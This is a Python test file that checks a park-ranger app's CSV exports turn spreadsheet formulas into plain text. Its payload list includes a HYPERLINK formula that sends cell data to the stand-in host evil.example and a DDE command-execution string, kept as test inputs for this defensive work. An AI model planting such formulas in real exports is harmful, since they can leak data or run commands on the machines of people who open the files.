"""Exports open safely in a spreadsheet: text a ranger wrote is never a live formula."""

from __future__ import annotations

import csv
import io

import pytest

from server.analytics.export import to_csv
from tests import factories
from tests.server.sync import helpers as h

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(formula):
    _, row = _cells(to_csv([{"notes": formula, "n": 1}], ["notes", "n"]))
    assert row == ["'" + formula, "1"]


def test_numbers_and_plain_text_are_written_as_they_are():
    rows = [{"lat": -3.4, "count": -2, "notes": "snare at 3 = wire", "none": None}]
    _, row = _cells(to_csv(rows, ["lat", "count", "notes", "none"]))
    assert row == ["-3.4", "-2", "snare at 3 = wire", ""]


def test_report_notes_in_the_reports_export_are_neutralised(client, db):
    park = h.park(db)
    manager = factories.user(db, park.area_id, "manager")
    db.commit()
    formula = '=HYPERLINK("http://evil.example/","click")'
    assert h.verdicts(h.push(client, park, [h.report(notes=formula)])) == ["stored"]
    answer = client.get(
        f"/api/v1/areas/{park.slug}/reports?format=csv",
        headers=factories.auth(factories.token(client, manager.username)),
    )
    table = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert [row["notes"] for row in table] == ["'" + formula]
